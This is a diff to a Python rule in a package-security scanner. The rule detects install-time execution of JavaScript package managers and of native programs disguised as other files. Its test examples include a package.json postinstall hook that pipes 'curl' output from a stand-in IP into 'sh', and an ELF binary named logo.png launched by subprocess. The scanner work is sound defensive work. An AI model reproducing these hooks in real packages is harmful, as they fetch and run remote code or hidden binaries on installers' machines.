@@ -17,23 +17,33 @@ from pratique.rules.rule import Example, Rule
 _ID = "reached-script"
 _RUNTIME = re.compile(r"(?:^|[\s/\\\"'>])(?:node|nodejs|bun|deno|npx|tsx|wscript|cscript)(?:\.exe)?\b", re.IGNORECASE)
 _INLINE = re.compile(r"\b(?:node|bun|deno)(?:\.exe)?[\"']?\s{1,5}(?:-e|-p|--eval|--print|eval)\s{1,5}", re.IGNORECASE)
+_MANAGER = re.compile(
+    r"\b(?:npm|yarn|pnpm|bun)(?:\.cmd)?[\"']?\s{1,5}(?:[\w./<>=-]{1,80}\s{1,5}){0,6}(?:install|i|ci)\b", re.IGNORECASE
+)
 _AT_MOST = 3
 
 
 def _check(facts: PackageFacts) -> Iterator[Finding]:
-    found = [*_started(facts), *_inline(facts)]
+    found = [*_started(facts), *_inline(facts), *_managed(facts)]
     yield from sorted(found, key=lambda f: (-f.proven, -f.severity * f.confidence, f.path))[:_AT_MOST]
 
 
 def _started(facts: PackageFacts) -> Iterator[Finding]:
     shells = {s.path: s for s in facts.shells}
     scripts = {s.path: s for s in facts.javascript}
+    natives = {n.path: n for n in facts.natives}
     for one in facts.reached:
         if one.does is not Does.RUN_PROCESS:
             continue
         if one.path in shells and (shell := _of_shell(shells[one.path])):
             what, sure, severe = shell
             yield _finding(one, f"a script of its own {what}", proven=sure, severe=severe)
+        elif one.path in natives and natives[one.path].program and one.phase.automatic:
+            native = natives[one.path]
+            telling = (*(("a packer's marks",) if native.packed else ()), *native.strings, *native.imports)
+            hides = native.disguised or bool(telling)
+            what = f"a program of its own ({native.format.value}) is started"
+            yield _finding(one, f"{what}, with {telling[0]}," if telling else what, proven=False, severe=hides)
         elif one.path in scripts and scripts[one.path].attacks and _RUNTIME.search(one.command):
             script = scripts[one.path]
             yield _finding(one, f"a script of its own {script.attacks}", proven=_is_sure(script), severe=True)
@@ -68,6 +78,18 @@ def _inline(facts: PackageFacts) -> Iterator[Finding]:
             if script.attacks:
                 one = Reached(path=path, phase=call.phase, by=path, line=call.line, does=Does.RUN_PROCESS)
                 yield _finding(one, f"JavaScript {script.attacks}", proven=_is_sure(script), severe=True)
+
+
+def _managed(facts: PackageFacts) -> Iterator[Finding]:
+    """A package manager for JavaScript that is started runs what the distribution's ``package.json`` tells it to."""
+    hooks = [s for s in facts.javascript if s.path.endswith("package.json") and s.attacks]
+    started = next(
+        ((p, c) for p, c in calls(facts) if Does.RUN_PROCESS in c.does and _MANAGER.search(command(c))), None
+    )
+    if hooks and started is not None:
+        by, call = started
+        one = Reached(path=hooks[0].path, phase=call.phase, by=by, line=call.line, does=Does.RUN_PROCESS)
+        yield _finding(one, f"a hook of its own package.json {hooks[0].attacks}", proven=True, severe=True)
 
 
 def _finding(one: Reached, what: str, *, proven: bool, severe: bool) -> Finding:
@@ -117,6 +139,20 @@ RULE = Rule(
         Example(
             title="encoded JavaScript, started while it is installed",
             files={"setup.py": "import os\nos.system('bun run build/x.js')\n", "build/x.js": _HIDDEN},
+        ),
+        Example(
+            title="a package manager that runs a hook",
+            files={
+                "setup.py": "import os\nos.system('npm --prefix js install')\n",
+                "js/package.json": '{"scripts": {"postinstall": "curl -s http://192.0.2.1/a | sh"}}',
+            },
+        ),
+        Example(
+            title="a program under the name of a picture",
+            files={
+                "example_pkg/__init__.py": "import subprocess\nsubprocess.Popen(['example_pkg/logo.png'])\n",
+                "example_pkg/logo.png": b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00" + bytes(40),
+            },
         ),
         Example(
             title="JavaScript on the command line",
